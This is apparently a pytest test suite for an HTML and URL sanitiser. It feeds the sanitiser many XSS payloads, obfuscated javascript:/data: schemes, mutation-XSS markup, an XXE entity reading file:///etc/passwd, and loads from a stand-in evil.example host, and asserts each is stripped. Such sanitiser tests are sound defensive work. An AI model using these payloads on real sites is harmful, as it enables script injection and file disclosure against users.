"""Nothing that a site can write runs, loads from this computer, or leads there."""

import pytest

from pressmark.article import clean
from pressmark.article.links import clean_url
from tests.article.markup import LINK, inspect

# Spellings by which an address hides that it is a script, a file, or no address at all.
HARMFUL = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "java\r\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\x7fjavascript:alert(1)",
    "\x85javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u1680javascript:alert(1)",
    "\u2003javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u2029javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\xadjavascript:alert(1)",
    "java\u200bscript:alert(1)",
    "java\x00script:alert(1)",
    "javascript\n:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#106;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A//%0aalert(1)",
    "&Tab;javascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    # What stands behind the slashes is no host to a browser: a comment, a line end, a script.
    "javascript://site.example/%0aalert(1)",
    "JavaScript://site.example/?%0Dalert(1)",
    "vbscript://site.example/%0amsgbox(1)",
    "data://site.example/text/html,<script>alert(1)</script>",
    "mailto://site.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "file://host/share",
    "FILE:C:/Windows/win.ini",
    "C:\\Windows\\win.ini",
    "smb://host/share",
    "ftp://host/file",
    "blob:https://site.example/x",
    "about:blank",
    "chrome://settings",
    "qrc:/page.html",
    "ms-msdt:/id",
    "search-ms:query=x",
    "view-source:https://site.example/",
    "tel:+123",
    "intent://x",
    "http://",
    "https://",
    "http:///",
    "https:\\\\",
    "mailto:",
    "http://[::1",
    "http://[x]/",
    "https://:80/",
    "https://user@",
]


@pytest.mark.parametrize("address", HARMFUL)
@pytest.mark.parametrize(
    "markup",
    [
        '<a href="{}">word</a>',
        '<img src="{}">word',
        '<iframe src="{}"></iframe>word',
        '<object data="{}">word</object>',
    ],
)
def test_harmful_addresses_lead_nowhere(markup: str, address: str) -> None:
    article = clean(markup.format(address.replace('"', "&quot;")), LINK)
    inspector = inspect(article.html)
    assert inspector.faults == []
    assert article.text.endswith("word") or article.links
    for url in [*(link.url for link in article.links), *(image.url for image in article.images)]:
        # What is left is an ordinary path below the site, as a browser would read it.
        assert url.startswith("https://site.example/")


@pytest.mark.parametrize("address", HARMFUL)
def test_no_scheme_but_three_passes(address: str) -> None:
    url = clean_url(address, LINK)
    assert url == "" or url.startswith(("https://site.example/", "mailto:"))
    assert url != "mailto:"


@pytest.mark.parametrize(
    ("address", "url"),
    [
        ("//evil.example/x", "https://evil.example/x"),
        ("\\\\evil.example\\share", "https://evil.example/share"),
        ("/\\evil.example", "https://evil.example"),
        ("https:\\\\evil.example\\x", "https://evil.example/x"),
        ("https://good.example\\@evil.example/", "https://good.example/@evil.example/"),
        ("https://e.example/x?y=\\z", "https://e.example/x?y=\\z"),
    ],
)
def test_what_browsers_read_as_another_host_is_written_as_one(address: str, url: str) -> None:
    assert clean_url(address, LINK) == url


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        '<svg><style><img title="</style><img src=x onerror=alert(1)>"></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<noscript>&lt;/noscript&gt;&lt;script&gt;alert(1)&lt;/script&gt;</noscript>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe></iframe><script>alert(1)</script>",
        "<iframe>&lt;/iframe&gt;<script>alert(1)</script></iframe>",
        "<style>@import url(//evil.example/x.css);</style>",
        '<p style="background:url(//evil.example/x)">x</p>',
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
        "<body onload=alert(1)>x",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href='https://e.example' onclick=alert(1) ping=//evil.example>x</a>",
        '<table background="javascript:alert(1)"><tr><td background=x>y</td><td>z</td></tr></table>',
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<a href='https://e.example/\"onmouseover=alert(1)'>x</a>",
        '<img alt="&quot; onerror=alert(1) x=&quot;" src=/a.png>',
        '<h2 id="x&quot; onclick=&quot;alert(1)">x</h2>',
        '<pre class="language-x&quot;onclick=alert(1)">x</pre>',
        "<isindex action=javascript:alert(1)>",
        "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    ],
)
def test_no_script_frame_style_or_handler_survives(markup: str) -> None:
    html = clean(markup, LINK).html
    inspector = inspect(html)
    assert inspector.faults == []
    assert not {"script", "style", "iframe", "form", "svg", "link", "meta", "base"} & set(inspector.tags)


def test_external_entities_are_text() -> None:
    assert "root:" not in clean("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>", LINK).text
